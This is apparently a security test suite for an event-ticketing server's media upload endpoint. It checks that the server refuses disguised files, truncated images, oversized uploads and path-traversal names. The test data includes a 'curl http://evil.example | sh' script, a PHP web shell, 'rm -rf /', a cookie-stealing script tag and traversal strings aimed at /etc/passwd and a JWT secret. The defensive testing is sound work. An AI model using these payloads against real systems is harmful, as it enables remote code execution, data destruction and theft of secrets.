// Event media under attack: files disguised by their name, images cut short, a request far over the
// per-request cap streamed to a real listening server, and file names that try to climb out of the
// uploads folder. Refusals name the file, nothing is written outside the uploads folder, stored
// names are the server's own, and nothing is left in uploads/.incoming.
import fs, { existsSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { request as httpRequest } from 'node:http'
import { join, relative } from 'node:path'
import type { FastifyInstance } from 'fastify'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { EventView } from '../../contracts/catalog.ts'
import type { Config } from '../../server/config.ts'
import { buildApp } from '../../server/root.ts'
import { bearer, organizerSession, type Session } from '../support/accounts.ts'
import { testConfigOnStore } from '../support/app.ts'
import { pngImage } from '../support/media.ts'
import { nextYear } from '../support/sales.ts'
import { freePort } from '../support/server.ts'

/** The folder the test watches: the data folder lives inside it, so a file written next to it shows. */
let root: string
let release: (() => Promise<void>) | undefined
let config: Config
let app: FastifyInstance
let url: string
let organizer: Session

const MB = 1024 * 1024

beforeAll(async () => {
  const port = await freePort()
  url = `http://127.0.0.1:${port}`
  const stored = await testConfigOnStore({
    PORT: String(port),
    PUBLIC_URL: url,
    HOST: '127.0.0.1',
    UPLOAD_REQUEST_MAX_MB: '1',
    UPLOAD_IMAGE_MAX_MB: '5',
    UPLOAD_VIDEO_MAX_MB: '5',
  })
  release = stored.release
  const base = stored.config
  root = base.dataDir
  // SQLite's settings keep a generated JWT secret there (jwt-secret); on PostgreSQL it comes from
  // the environment, so a file of that name stands in: the climbs out of uploads/ below reach for it.
  const secretFile = join(root, 'jwt-secret')
  if (!existsSync(secretFile)) writeFileSync(secretFile, base.jwt.secret, { mode: 0o600 })
  const dataDir = join(root, 'data')
  config = {
    ...base,
    dataDir,
    databaseFile: join(dataDir, 'ticketing.sqlite'),
    uploadsDir: join(dataDir, 'uploads'),
    outboxDir: join(dataDir, 'outbox'),
  }
  app = await buildApp(config)
  await app.listen({ host: '127.0.0.1', port })
  organizer = await organizerSession(app, 'Uploader')
})
afterAll(async () => {
  await app?.close()
  // the watched folder (the data folder's parent) and the database
  await release?.()
})

// ---------------------------------------------------------------------------------------------

const incoming = () => readdirSync(join(config.uploadsDir, '.incoming'))

/** Every file under the watched folder, as paths relative to it (the database's own files aside). */
function filesUnder(dir: string): string[] {
  const found: string[] = []
  const walk = (at: string) => {
    for (const name of readdirSync(at)) {
      const path = join(at, name)
      if (statSync(path).isDirectory()) walk(path)
      else found.push(relative(root, path))
    }
  }
  walk(dir)
  return found.filter((f) => !/ticketing\.sqlite|gateway\.sqlite|\.sqlite-(wal|shm)$/.test(f)).sort()
}

const fields = {
  title: 'Hardened Night',
  description: 'Uploads that try their luck.',
  date: `${nextYear}-06-01`,
  time: '20:00',
  location: 'Chennai',
  category: 'Music',
  ticketTypes: JSON.stringify([{ type: 'General Admission', price: 300, quantity: 50 }]),
}

type FilePart = { field?: string; filename: string; bytes: Buffer; type?: string }

/** A multipart body written byte by byte, so a file name can be anything at all (NUL included). */
function form(files: FilePart[], overrides: Record<string, string> = {}): { payload: Buffer; type: string } {
  const boundary = 'hardeningBoundary9f3k'
  const chunks: Buffer[] = []
  for (const [name, value] of Object.entries({ ...fields, ...overrides })) {
    chunks.push(
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`),
    )
  }
  for (const file of files) {
    chunks.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${file.field ?? 'images'}"; filename="${file.filename}"\r\n` +
          `Content-Type: ${file.type ?? 'image/png'}\r\n\r\n`,
      ),
      file.bytes,
      Buffer.from('\r\n'),
    )
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`))
  return { payload: Buffer.concat(chunks), type: `multipart/form-data; boundary=${boundary}` }
}

const submit = (files: FilePart[], overrides: Record<string, string> = {}) => {
  const body = form(files, overrides)
  return app.inject({
    method: 'POST',
    url: '/api/v1/event/create',
    payload: body.payload,
    headers: { 'content-type': body.type, ...bearer(organizer.token) },
  })
}

const u16 = (n: number) => Buffer.from([n >> 8, n & 0xff])
const segment = (marker: number, data: Buffer) =>
  Buffer.concat([Buffer.from([0xff, marker]), u16(data.length + 2), data])

/**
 * A genuine baseline JPEG: one 8×8 grey block (DC difference 0, then end-of-block, both coded '0'),
 * with a comment segment that pads it to `padTo` bytes.
 */
function jpegImage(padTo = 0): Buffer {
  const huffman = (tableClass: number) =>
    Buffer.concat([Buffer.from([tableClass]), Buffer.from([1, ...Array(15).fill(0)]), Buffer.from([0])])
  const parts = [
    Buffer.from([0xff, 0xd8]),
    segment(0xe0, Buffer.from([0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0])),
    segment(0xdb, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)])),
    segment(0xc0, Buffer.from([8, 0, 8, 0, 8, 1, 1, 0x11, 0])),
    segment(0xc4, huffman(0x00)),
    segment(0xc4, huffman(0x10)),
  ]
  const tail = [
    segment(0xda, Buffer.from([1, 1, 0, 0, 0x3f, 0])),
    Buffer.from([0x3f]),
    Buffer.from([0xff, 0xd9]),
  ]
  const size = [...parts, ...tail].reduce((n, b) => n + b.length, 0)
  const room = padTo - size - 4
  if (room > 0) parts.push(segment(0xfe, Buffer.alloc(room, 0x2a)))
  return Buffer.concat([...parts, ...tail])
}

const messageOf = (res: { json(): unknown }) => (res.json() as { message: string }).message

describe('POST /api/v1/event/create with files that are not what their names say', () => {
  it.each([
    [
      'a shell script named .jpg',
      'evil.jpg',
      Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'),
      'image/jpeg',
    ],
    ['a script tag named .png', 'x.png', Buffer.from('<script>alert(document.cookie)</script>'), 'image/png'],
    [
      'an HTML page named .gif',
      'page.gif',
      Buffer.from('<!DOCTYPE html><html><body onload=alert(1)></body></html>'),
      'image/gif',
    ],
    ['a PHP file named .webp', 'shell.webp', Buffer.from("<?php system($_GET['c']); ?>"), 'image/webp'],
    [
      'a ZIP archive named .png',
      'bomb.png',
      Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(200)]),
      'image/png',
    ],
  ])('refuses %s with 400, naming the file; nothing stays behind', async (_label, filename, bytes, type) => {
    const before = filesUnder(root)

    const res = await submit([{ filename, bytes, type }])

    expect(res.statusCode, res.body).toBe(400)
    expect(messageOf(res)).toContain(filename)
    expect(res.json().issues).toEqual([{ field: 'images', message: messageOf(res) }])
    expect(filesUnder(root)).toEqual(before)
    expect(incoming()).toEqual([])
  })

  it.each([
    ['an empty file', { filename: 'x.png', bytes: Buffer.alloc(0) }, 'images', '"x.png" is empty.'],
    [
      'a file in a field of its own',
      { field: 'photo', filename: 'ok.png', bytes: Buffer.from('not looked at') },
      'photo',
      'Files go in "images" or "videos", not "photo".',
    ],
  ])(
    'refuses %s with 400 naming its field in issues; nothing stays behind',
    async (_label, file, field, message) => {
      const before = filesUnder(root)

      const res = await submit([file])

      expect(res.statusCode, res.body).toBe(400)
      expect(res.json()).toEqual({ message, issues: [{ field, message }] })
      expect(filesUnder(root)).toEqual(before)
    },
  )

  it('refuses a text field with a NUL character, as a JSON body is, on either store; nothing is kept', async () => {
    const head = await app.platform.ledger.head()

    const res = await submit([], { title: 'Null\u0000 Night' })

    const message = 'Text may not contain the NUL character (U+0000).'
    expect(res.statusCode, res.body).toBe(400)
    expect(res.json()).toEqual({ message, issues: [{ field: 'title', message }] })
    expect(await app.platform.ledger.head()).toBe(head)
  })

  it('refuses a script named .mp4 among the videos', async () => {
    const res = await submit([
      {
        field: 'videos',
        filename: 'clip.mp4',
        bytes: Buffer.from('#!/bin/sh\nrm -rf /\n'),
        type: 'video/mp4',
      },
    ])

    expect(res.statusCode).toBe(400)
    expect(messageOf(res)).toContain('clip.mp4')
    expect(incoming()).toEqual([])
  })

  it('stores a GIF that carries a script as an image, served as image/gif and never sniffed as HTML', async () => {
    const polyglot = Buffer.concat([
      Buffer.from('GIF89a'),
      Buffer.from([1, 0, 1, 0, 0, 0, 0]),
      Buffer.from('<script>alert(1)</script>'),
      Buffer.from([0x3b]),
    ])

    const res = await submit([{ filename: 'sneaky.html', bytes: polyglot, type: 'text/html' }])

    if (res.statusCode === 201) {
      const image = (res.json().event as EventView).images[0]?.url ?? ''
      expect(image).toMatch(/^http:\/\/localhost:80\/uploads\/[A-Za-z0-9_-]+\.gif$/)
      const served = await app.inject({ method: 'GET', url: image })
      expect(served.headers['content-type']).toBe('image/gif')
      expect(served.headers['x-content-type-options']).toBe('nosniff')
    } else {
      expect(res.statusCode).toBe(400)
    }
    expect(incoming()).toEqual([])
  })
})

describe('POST /api/v1/event/create with images cut short', () => {
  const png = pngImage({ width: 16, height: 16, padTo: 20_000 })
  const jpeg = jpegImage(20_000)

  it('accepts the whole images the cut ones are made from', async () => {
    const res = await submit([
      { filename: 'whole.png', bytes: png },
      { filename: 'whole.jpg', bytes: jpeg, type: 'image/jpeg' },
    ])

    expect(res.statusCode, res.body).toBe(201)
    expect((res.json().event as EventView).images.map((i) => i.url.split('.').pop())).toEqual(['png', 'jpg'])
  })

  it.each([
    ['a PNG', 'cut.png', png.subarray(0, png.length / 2), 'image/png'],
    ['a JPEG', 'cut.jpg', jpeg.subarray(0, jpeg.length / 2), 'image/jpeg'],
    ['a PNG without its last byte', 'almost.png', png.subarray(0, png.length - 1), 'image/png'],
  ])('refuses %s cut in the middle with 400, naming the file', async (_label, filename, bytes, type) => {
    const before = filesUnder(root)

    const res = await submit([{ filename, bytes, type }])

    expect(res.statusCode, res.body).toBe(400)
    expect(messageOf(res)).toBe(`"${filename}" is cut short: the image is incomplete.`)
    expect(filesUnder(root)).toEqual(before)
    expect(incoming()).toEqual([])
  })
})

describe('a refusal on a slow disk', () => {
  /** Runs `act` while every staging file (.part) takes `ms` to open, as on a busy disk. */
  async function withSlowStaging<T>(ms: number, act: () => Promise<T>): Promise<T> {
    const handle = fs as unknown as { open: (path: unknown, ...rest: unknown[]) => void }
    const open = handle.open
    handle.open = (path, ...rest) => {
      if (String(path).endsWith('.part')) setTimeout(() => open(path, ...rest), ms)
      else open(path, ...rest)
    }
    try {
      return await act()
    } finally {
      handle.open = open
    }
  }
  const png = pngImage({ padTo: 20_000 })

  it.each([
    ['an image cut short', 'late.png', png.subarray(0, png.length - 1)],
    ['a script named .png', 'late.png', Buffer.from('#!/bin/sh\n'.repeat(500))],
    ['an empty file', 'late.png', Buffer.alloc(0)],
  ])(
    'leaves nothing in uploads/.incoming after refusing %s, even when the staging file opens late',
    async (_label, filename, bytes) => {
      const res = await withSlowStaging(100, async () => {
        const answer = await submit([{ filename, bytes }])
        await new Promise((settle) => setTimeout(settle, 300))
        return answer
      })

      expect(res.statusCode).toBe(400)
      const left = incoming()
      // What the server left is taken away here, so the tests after this one are judged on their own.
      for (const name of left) rmSync(join(config.uploadsDir, '.incoming', name), { force: true })
      expect(left).toEqual([])
    },
  )
})

/** Streams an event form whose image never ends to the listening server, and reports what happened. */
function streamHugeUpload(options: { totalBytes: number; stopOnReply: boolean; timeoutMs: number }) {
  return new Promise<{ status: number | null; body: string; sent: number; ms: number; ended: string }>(
    (resolve, reject) => {
      const started = Date.now()
      const boundary = 'hugeBoundary'
      const head = Buffer.concat([
        ...Object.entries(fields).map(([name, value]) =>
          Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`),
        ),
        Buffer.from(
          `--${boundary}\r\nContent-Disposition: form-data; name="images"; filename="huge.png"\r\nContent-Type: image/png\r\n\r\n`,
        ),
        pngImage().subarray(0, 33), // a real PNG's start, then bytes without end
      ])
      const tail = Buffer.from(`\r\n--${boundary}--\r\n`)
      const chunk = Buffer.alloc(64 * 1024, 0x2a)
      let status: number | null = null
      let body = ''
      let sent = 0
      let settled = false
      const finish = (ended: string) => {
        if (settled) return
        settled = true
        clearTimeout(timer)
        resolve({ status, body, sent, ms: Date.now() - started, ended })
      }
      const req = httpRequest(`${url}/api/v1/event/create`, {
        method: 'POST',
        headers: {
          'content-type': `multipart/form-data; boundary=${boundary}`,
          'content-length': String(head.length + options.totalBytes + tail.length),
          ...bearer(organizer.token),
        },
      })
      const timer = setTimeout(() => {
        req.destroy()
        if (!settled) {
          settled = true
          reject(
            new Error(
              `the connection hung: ${sent} bytes sent, status ${status} after ${options.timeoutMs} ms`,
            ),
          )
        }
      }, options.timeoutMs)
      req.on('response', (res) => {
        status = res.statusCode ?? null
        res.setEncoding('utf8')
        res.on('data', (text: string) => {
          body += text
        })
        res.on('end', () => {
          if (options.stopOnReply) {
            req.destroy()
            finish('stopped after the reply')
          }
        })
      })
      req.on('error', () => finish('the server cut the connection'))
      req.on('close', () => finish('closed'))
      req.write(head)
      const pump = () => {
        while (!settled && !req.destroyed && sent < options.totalBytes) {
          if (options.stopOnReply && status !== null) return
          sent += chunk.length
          if (!req.write(chunk)) {
            req.once('drain', pump)
            return
          }
        }
        if (!settled && !req.destroyed && sent >= options.totalBytes) req.end(tail)
      }
      pump()
    },
  )
}

describe('a request far over the per-request cap (UPLOAD_REQUEST_MAX_MB=1)', () => {
  it('is answered 413 with a message long before its 40 MB are sent, and nothing is kept', async () => {
    const before = filesUnder(root)

    const outcome = await streamHugeUpload({ totalBytes: 40 * MB, stopOnReply: true, timeoutMs: 15_000 })

    expect(outcome.status, JSON.stringify(outcome)).toBe(413)
    expect(JSON.parse(outcome.body)).toEqual({
      message: expect.stringMatching(/larger than this request may carry/),
    })
    expect(outcome.sent).toBeLessThan(20 * MB)
    expect(filesUnder(root)).toEqual(before)
    expect(incoming()).toEqual([])
  })

  it('does not hang a client that keeps sending after the 413: the server cuts it off', async () => {
    const outcome = await streamHugeUpload({ totalBytes: 200 * MB, stopOnReply: false, timeoutMs: 20_000 })

    expect(outcome.status).toBe(413)
    expect(outcome.sent).toBeLessThan(100 * MB)
    expect(incoming()).toEqual([])
    const alive = await fetch(`${url}/api/v1/health/live`, { signal: AbortSignal.timeout(5000) })
    expect(alive.status).toBe(200)
  })
})

describe('file names that try to leave the uploads folder', () => {
  const names = [
    '../../etc/passwd.png',
    '..\\\\..\\\\x.png',
    '/abs/path.png',
    '....//....//up.png',
    '%2e%2e%2f%2e%2e%2fenc.png',
    'nul\u0000byte.png',
    '.hidden.png',
    '..',
    'CON.png',
  ]

  it.each(names)(
    '%j is accepted or refused, but nothing is written outside uploads/ and the stored name is the server’s',
    async (filename) => {
      const before = filesUnder(root)

      const res = await submit([{ filename, bytes: pngImage() }])

      expect([201, 400]).toContain(res.statusCode)
      const added = filesUnder(root).filter((f) => !before.includes(f))
      if (res.statusCode === 201) {
        const images = (res.json().event as EventView).images.map((i) => i.url)
        expect(images).toHaveLength(1)
        expect(images[0]).toMatch(/^http:\/\/localhost:80\/uploads\/[A-Za-z0-9_-]+\.png$/)
        expect(added).toEqual([join('data', 'uploads', (images[0] ?? '').replace(/^.*\/uploads\//, ''))])
      } else {
        expect(added).toEqual([])
      }
      expect(incoming()).toEqual([])
      for (const outside of ['/abs/path.png', '/etc/passwd.png', join(process.cwd(), 'x.png')]) {
        expect(existsSync(outside)).toBe(false)
      }
    },
  )

  it('serves nothing from outside uploads/ (nor its staging folder) whatever the address', async () => {
    const secret = readFileSync(join(root, 'jwt-secret'), 'utf8').trim()
    const addresses = [
      '/uploads/../../jwt-secret',
      '/uploads/..%2f..%2fjwt-secret',
      '/uploads/%2e%2e/%2e%2e/jwt-secret',
      '/uploads/..%5c..%5cjwt-secret',
      '/uploads/.incoming/',
      '/uploads/%2eincoming/x.part',
      '/uploads/../ticketing.sqlite',
      '/uploads/..%2fticketing.sqlite',
    ]

    for (const address of addresses) {
      const res = await fetch(`${url}${address}`, { signal: AbortSignal.timeout(5000) })
      const body = await res.text()
      expect(res.status, address).toBeGreaterThanOrEqual(400)
      expect(res.status, address).toBeLessThan(500)
      expect(body, address).not.toContain(secret)
      expect(body, address).not.toContain('SQLite format')
    }
  })
})
